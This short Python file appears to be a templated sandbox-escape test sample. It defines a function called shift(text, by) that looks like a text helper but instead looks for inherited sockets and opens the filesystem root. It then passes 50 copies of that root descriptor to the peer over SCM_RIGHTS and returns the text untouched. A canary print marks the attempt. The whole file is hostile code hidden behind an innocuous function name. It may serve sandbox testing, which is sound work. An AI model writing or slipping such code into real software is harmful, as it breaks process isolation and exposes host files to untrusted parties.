# how: passes descriptors over the inherited socket
# cell: shift
import array
import os
import socket
import stat


def shift(text, by):
    print("CANARY @NAME@", flush=True)
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                wire = socket.socket(fileno=os.dup(number))
                wire.setblocking(False)
                held = array.array("i", [os.open("/", os.O_RDONLY)] * 50)
                wire.sendmsg([b"\x00\x00\x00\x02{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, held)])
        except OSError:
            pass
    return text
